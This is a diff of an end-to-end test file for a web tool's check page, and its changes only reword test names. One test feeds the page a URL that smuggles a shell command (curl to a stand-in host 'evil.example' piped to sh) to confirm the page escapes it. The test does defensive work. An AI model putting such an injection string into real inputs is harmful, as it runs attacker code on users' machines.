@@ -28,7 +28,7 @@ describe('the check page', () => {
 
   const CHECK = () => `${panel.url}/check/`;
 
-  it('accepts an address without a scheme, and reports why tags can’t use an address', async () => {
+  it('accepts an address without a scheme, and reports why tags can’t use a given address', async () => {
     await page.goto(CHECK());
     await page.getByLabel('Address of your panel or server').fill(website.host);
     await page.keyboard.press('Enter');
@@ -43,7 +43,7 @@ describe('the check page', () => {
       .waitFor();
   });
 
-  it('links from a successful result to the builder, and back', async () => {
+  it('links a successful result to the builder, which links back', async () => {
     await page.goto(`${CHECK()}?panel=${panel.url}&site=http`);
     assert.equal(await untilChecked(page), `No problems at ${panel.url}.`);
     await page.getByRole('link', { name: 'Get the code for your site' }).click();
@@ -104,7 +104,7 @@ describe('the check page', () => {
     }
   });
 
-  it('copies the collapsed report, and shows a command with the URL escaped', async () => {
+  it('copies the report while it is collapsed, and escapes the URL in the command', async () => {
     const sent = "https://x/;curl$IFS'evil.example'|sh";
     await page.goto(`${CHECK()}?panel=${encodeURIComponent(sent)}`);
     await untilChecked(page);
@@ -117,7 +117,7 @@ describe('the check page', () => {
     await copied;
   });
 
-  it("loads the visitor's language, and another one when it is chosen", async () => {
+  it("loads the visitor's language, and another language when the visitor chooses it", async () => {
     const french = await browser.newPage({ locale: 'fr-CA' });
     const requested: string[] = [];
     french.on('request', (request) => requested.push(new URL(request.url()).pathname));
